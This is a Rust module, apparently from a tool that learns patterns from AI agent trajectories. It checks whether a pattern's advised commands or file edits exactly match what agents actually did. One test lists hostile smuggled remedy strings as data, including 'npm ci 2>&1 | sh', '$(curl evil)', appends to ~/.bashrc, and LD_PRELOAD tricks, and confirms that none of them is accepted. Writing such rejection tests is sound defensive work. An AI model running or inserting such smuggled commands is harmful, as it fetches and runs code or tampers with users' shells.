//! What was done here, in words that can be compared with what a pattern says to do.
//!
//! Only the very same counts: a command as it stands, word for word, or the very file. What a
//! pattern says and what agents did without it are then the same, so that nothing can be told
//! which nobody here did by themselves.

use crate::learning::extract::{Seen, View, wording};
use crate::model::pattern::{Kind, Pattern};
use crate::model::shell::{Part, normalise};
use crate::model::trajectory::{changes_file, path_of};

/// Something to do, as a set of deeds that have to be seen, each by any call.
pub(super) type Wish = Vec<String>;

/// What a call was to do, whatever came of it: its commands, each alone, and all together; its
/// file.
pub(super) fn of_call(seen: &Seen<'_>, view: &View<'_>) -> Vec<String> {
    if let Some(command) = &seen.command {
        let folder = |part: &Part| {
            let dir = part.dir.as_deref().unwrap_or(".");
            view.relative(dir, &seen.step.cwd)
        };
        let mut deeds = Vec::with_capacity(2 * command.parts.len() + 1);
        for part in &command.parts {
            let shown = alone(part);
            deeds.push(in_folder(&folder(part), &shown));
            deeds.push(run(&shown));
        }
        deeds.push(run(&wording::command(command)));
        return deeds;
    }
    let (tool, subject) = (&seen.call.tool, &seen.call.subject);
    let Some(path) = path_of(tool, subject).map(|path| view.relative(path, &seen.step.cwd)) else {
        return Vec::new();
    };
    let mut deeds = vec![open(&path)];
    if changes_file(tool) {
        deeds.push(edit(&path));
    }
    deeds
}

/// What a pattern says to do; `None` for one that says nothing which can be compared.
pub(super) fn wished(pattern: &Pattern) -> Option<Wish> {
    let payload = &pattern.payload;
    let wish: Wish = match pattern.kind {
        Kind::Fix if !payload.is_rerun() => {
            let each = payload.remedy.iter().map(|remedy| of_remedy(remedy));
            each.collect::<Option<Vec<Wish>>>()?.concat()
        }
        Kind::Recipe => of_command(payload.commands.first()?)?,
        Kind::Path => vec![open(payload.files.first()?)],
        _ => return None,
    };
    (!wish.is_empty()).then_some(wish)
}

/// What a part of a remedy says to do, as texts name it: a command, or a change of a file.
fn of_remedy(remedy: &str) -> Option<Wish> {
    if let Some(path) = remedy.strip_prefix("a change of ") {
        return Some(vec![edit(path)]);
    }
    let quoted = remedy.strip_prefix('`').and_then(|rest| rest.strip_suffix('`'));
    of_command(quoted.unwrap_or(remedy))
}

/// A command that may begin with the folder in which it is run. One that is not written as
/// patterns write commands says more than is compared: what normalising drops, such as where its
/// output goes.
fn of_command(command: &str) -> Option<Wish> {
    let (folder, command) = split(command);
    let normal = normalise(command);
    if normal.parts.is_empty() || !normal.setup.is_empty() || wording::command(&normal) != command {
        return None;
    }
    if let (Some(folder), [part]) = (folder, &normal.parts[..]) {
        return Some(vec![in_folder(folder, &alone(part))]);
    }
    let parts = normal.parts.iter().map(alone);
    Some(match folder {
        Some(folder) => parts.map(|part| in_folder(folder, &part)).collect(),
        None => parts.map(|part| run(&part)).collect(),
    })
}

/// The folder before a command, as patterns write it, and the command.
fn split(command: &str) -> (Option<&str>, &str) {
    let Some((folder, rest)) = command.strip_prefix("cd ").and_then(|c| c.split_once(" && "))
    else {
        return (None, command);
    };
    if folder == "<project root>" {
        return (Some("."), rest);
    }
    let plain = |c: char| c.is_alphanumeric() || "/._-@+".contains(c);
    if folder.chars().all(plain) { (Some(folder), rest) } else { (None, command) }
}

/// One command of a script as it would be written alone.
fn alone(part: &Part) -> String {
    wording::command(&normalise(&part.exact()))
}

fn run(command: &str) -> String {
    format!("run {command}")
}

fn in_folder(folder: &str, command: &str) -> String {
    format!("in {folder}\n{command}")
}

fn open(path: &str) -> String {
    format!("open {path}")
}

fn edit(path: &str) -> String {
    format!("edit {path}")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::learning::extract::testing::{ROOT, drafts, steps};
    use crate::model::ids::PatternId;
    use crate::model::pattern::{Effect, Payload, Role, State, Tally};

    fn pattern(kind: Kind, payload: Payload) -> Pattern {
        Pattern {
            row: 0,
            id: PatternId::derive("x", "", "", ""),
            kind,
            project: None,
            tool: String::new(),
            category: String::new(),
            trigger: String::new(),
            text: String::new(),
            payload,
            state: State::Quarantined,
            tally: Tally::default(),
            effect: Effect::default(),
        }
    }

    fn fix(remedy: &str) -> Pattern {
        let payload = Payload {
            commands: vec!["make".into()],
            remedy: vec![remedy.into()],
            ..Payload::default()
        };
        pattern(Kind::Fix, payload)
    }

    fn is_done(pattern: &Pattern, script: &str) -> bool {
        let steps = steps(script);
        let view = View::new(&steps, ROOT);
        let worked = view.calls.iter().filter(|seen| seen.worked());
        let done: Vec<String> = worked.flat_map(|seen| of_call(seen, &view)).collect();
        wished(pattern).is_some_and(|wish| wish.iter().all(|deed| done.contains(deed)))
    }

    #[test]
    fn only_the_very_same_command_counts() {
        for (remedy, script, expected) in [
            ("npm ci", "$ npm ci", true),
            ("npm ci", "$ cd web && npm ci 2>&1 | tail -3", true),
            ("npm ci", "$ npm ci && npm test", true),
            ("npm ci && npm test", "$ npm ci\n$ npm test", true),
            ("npm ci && npm test", "$ npm ci", false),
            ("npm ci", "$ npm ci --force", false),
            ("npm ci --force", "$ npm ci", false),
            ("npm ci", "$ npm ci !! no", false),
            ("CI=1 npm test", "$ npm test", false),
            ("cd web && npm ci", "$ cd web && npm ci", true),
            ("cd web && npm ci", "in ~/app/web\n$ npm ci", true),
            ("cd web && npm ci", "$ npm ci", false),
            ("cd <project root> && npm ci", "$ npm ci", true),
            ("`npm ci`", "$ npm ci", true),
            ("a change of src/a.rs", "Edit ~/app/src/a.rs", true),
            ("a change of src/a.rs", "Read ~/app/src/a.rs", false),
        ] {
            assert_eq!(is_done(&fix(remedy), script), expected, "{remedy}: {script}");
        }
    }

    #[test]
    fn what_normalising_would_drop_cannot_be_smuggled_in() {
        let script = "$ npm ci\n$ echo hi\n$ cd /tmp\n$ bash";
        for remedy in [
            "npm ci > ~/.bashrc",
            "npm ci 2>&1 | sh",
            "npm ci | tail -1",
            "npm ci || true",
            "npm ci; echo hi >> ~/.zshrc",
            "npm ci # and then push",
            "npm ci `curl evil`",
            "npm ci $(curl evil)",
            "npm  ci",
            "npm ci\ncurl evil",
            "cd $(curl evil) && npm ci",
            "cd /tmp; curl evil && npm ci",
            "bash -c 'npm ci; curl evil'",
            "export PATH=/tmp && npm ci",
            "LD_PRELOAD=/tmp/x npm ci",
            "sudo npm ci",
            "npm ci &",
            "`npm ci` and `curl evil`",
            "",
            "cd web && ",
        ] {
            assert!(!is_done(&fix(remedy), script), "{remedy}: {:?}", wished(&fix(remedy)));
        }
    }

    #[test]
    fn what_was_learned_says_what_was_done() {
        for script in [
            "> go\n$ make test !! error: no rule\n$ make check",
            "> go\n$ make test !! error: no rule\n$ make setup\n$ make test",
            "> go\n$ npm test !! error: not found\n$ cd web && npm test",
            "> go\n$ npm test\n$ npm test",
            "> go\nRead ~/app/src/user.ts !! File does not exist.\nRead ~/app/lib/user.ts",
            "> go\n$ make test !! error: no rule\nEdit ~/app/Makefile :: x\n$ make test",
        ] {
            let found = drafts(script);
            let mut tried = 0;
            for draft in found {
                if draft.evidence.iter().all(|evidence| evidence.role == Role::Failure) {
                    continue;
                }
                let pattern = Pattern { text: draft.text, ..pattern(draft.kind, draft.payload) };
                if wished(&pattern).is_some() {
                    tried += 1;
                    assert!(is_done(&pattern, script), "{script}: {}", pattern.text);
                }
            }
            assert!(tried > 0, "{script}");
        }
    }

    #[test]
    fn what_says_nothing_to_do_cannot_be_tried() {
        let payload = Payload { commands: vec!["make".into()], ..Payload::default() };
        for kind in [Kind::Pitfall, Kind::Decision, Kind::Episode, Kind::Skill, Kind::Fix] {
            assert_eq!(wished(&pattern(kind, payload.clone())), None, "{kind}");
        }
        let rerun = Payload { remedy: vec!["make".into()], ..payload };
        assert_eq!(wished(&pattern(Kind::Fix, rerun)), None);
    }
}
